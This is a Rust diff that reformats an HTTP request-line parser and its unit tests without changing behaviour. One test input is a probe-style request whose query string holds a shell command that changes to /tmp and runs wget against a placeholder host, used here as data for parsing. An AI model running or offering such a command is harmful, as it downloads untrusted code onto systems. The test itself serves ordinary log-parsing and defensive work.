@@ -31,7 +31,9 @@ pub(super) fn split(request: &[u8]) -> RequestParts<'_> {
 fn without_version(text: &[u8]) -> &[u8] {
     let text = text.strip_suffix(b" ").unwrap_or(text);
     match memchr::memrchr(b' ', text) {
-        Some(space) if text[space + 1..].starts_with(b"HTTP/") || &text[space + 1..] == b"-" => &text[..space],
+        Some(space) if text[space + 1..].starts_with(b"HTTP/") || &text[space + 1..] == b"-" => {
+            &text[..space]
+        }
         _ => text,
     }
 }
@@ -85,9 +87,12 @@ mod tests {
 
     fn check(request: &str, expected: &str) {
         let parts = split(request.as_bytes());
-        let text = |part: Option<&[u8]>| part.map_or("-".to_owned(), |part| String::from_utf8_lossy(part).into_owned());
+        let text = |part: Option<&[u8]>| {
+            part.map_or("-".to_owned(), |part| String::from_utf8_lossy(part).into_owned())
+        };
         let port = parts.port.map_or("-".to_owned(), |port| port.to_string());
-        let shown = [text(parts.method), text(parts.host), port, text(parts.path), text(parts.query)].join(" | ");
+        let shown =
+            [text(parts.method), text(parts.host), port, text(parts.path), text(parts.query)].join(" | ");
         assert_eq!(shown, expected, "{request}");
     }
 
@@ -99,9 +104,15 @@ mod tests {
         check("GET http://a.example.com:80/ HTTP/1.0 ", "GET | a.example.com | 80 | / | -");
         check("GET https://a.example.com:443/x -", "GET | a.example.com | 443 | /x | -");
         check("GET http://[::1]:8080/a HTTP/1.1", "GET | [::1] | 8080 | /a | -");
-        check("GET http://h:80/shell?cd+/tmp;wget+ a.b/c HTTP/1.1", "GET | h | 80 | /shell | cd+/tmp;wget+ a.b/c");
+        check(
+            "GET http://h:80/shell?cd+/tmp;wget+ a.b/c HTTP/1.1",
+            "GET | h | 80 | /shell | cd+/tmp;wget+ a.b/c",
+        );
         check("GET http://h:80/a b", "GET | h | 80 | /a b | -");
-        check("SSTP_DUPLEX_POST https://10.0.0.1:443/sra_{B}/ HTTP/1.1", "SSTP_DUPLEX_POST | 10.0.0.1 | 443 | /sra_{B}/ | -");
+        check(
+            "SSTP_DUPLEX_POST https://10.0.0.1:443/sra_{B}/ HTTP/1.1",
+            "SSTP_DUPLEX_POST | 10.0.0.1 | 443 | /sra_{B}/ | -",
+        );
         check("GET /relative?q HTTP/1.1", "GET | - | - | /relative | q");
     }
 
